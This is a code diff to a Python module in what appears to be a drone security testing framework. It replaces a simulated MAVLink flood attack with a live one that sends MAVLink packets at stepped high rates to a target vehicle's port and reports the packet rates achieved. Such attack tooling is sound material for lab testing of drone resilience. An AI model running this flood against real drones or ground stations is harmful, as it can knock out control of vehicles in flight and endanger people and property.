@@ -1,25 +1,75 @@
 # dvd_lite/dvd_attacks/denial_of_service/mavlink_flood.py
 """
-MAVLinkFloodAttack 공격 (더미 구현)
+MAVLinkFloodAttack 공격
+live=True면 MAVLinkFloodEngine으로 대상(SITL 또는 대체 기체)에 실제 부하를 걸고,
+그 외에는 기존처럼 시뮬레이션 결과를 반환한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, mavlink_port, rate 또는 rates(단계별 전송률 목록), step_duration, message, batch_size
 """
 import asyncio
-import random
-from typing import Tuple, List, Dict, Any
+from typing import Tuple, List, Dict, Any, Optional
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from .flood_engine import MAVLinkFloodEngine
 
 class MAVLinkFloodAttack(BaseAttack):
     """MAVLinkFloodAttack 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.DOS
+
+    @classmethod
+    def expected_duration(cls, config: Dict[str, Any]) -> Optional[float]:
+        """live 스윕은 단계 수 × step_duration 동안 진행"""
+        if not config.get("live"):
+            return None
+        rates = config.get("rates") or [config.get("rate", 20000)]
+        return len(rates) * config.get("step_duration", 5.0)
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
+        if self.config.get("live"):
+            return await self._run_flood()
+
+        # 시뮬레이션 공격 로직
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
         iocs = [f"MAVLINKFLOODATTACK_IOC:dummy_indicator"]
         details = {"success_rate": 0.7 if success else 0.2}
-        
+
+        return success, iocs, details
+
+    async def _run_flood(self) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """실제 부하 생성 - 전송률 단계별 결과와 대상 HEARTBEAT 지연 보고"""
+        port = self.config.get("mavlink_port", 14550)
+        rates = self.config.get("rates") or [self.config.get("rate", 20000)]
+        step_duration = self.config.get("step_duration", 5.0)
+
+        engine = MAVLinkFloodEngine(
+            (self.target_ip, port),
+            message=self.config.get("message", "HEARTBEAT"),
+            fields=self.config.get("fields"),
+            batch_size=self.config.get("batch_size", 256)
+        )
+
+        steps = []
+        async with engine:
+            for rate in rates:
+                report = await engine.run_step(rate, step_duration)
+                steps.append(report.to_dict())
+                self.record_progress(steps=list(steps))
+
+        final = steps[-1]
+        # 마지막 단계에서 목표 전송률의 80% 이상을 유지하면 성공
+        success = final["achieved_pps"] >= 0.8 * final["target_rate"]
+        iocs = [f"MAVLINK_FLOOD:{self.target_ip}:{port}:{step['achieved_pps']:.0f}pps" for step in steps]
+        details = {
+            "success_rate": min(1.0, final["achieved_pps"] / final["target_rate"]) if final["target_rate"] else 0.0,
+            "steps": steps,
+            "frames_sent": sum(step["frames_sent"] for step in steps),
+            "drops": sum(step["drops"] for step in steps),
+            "peak_pps": max(step["achieved_pps"] for step in steps)
+        }
+
         return success, iocs, details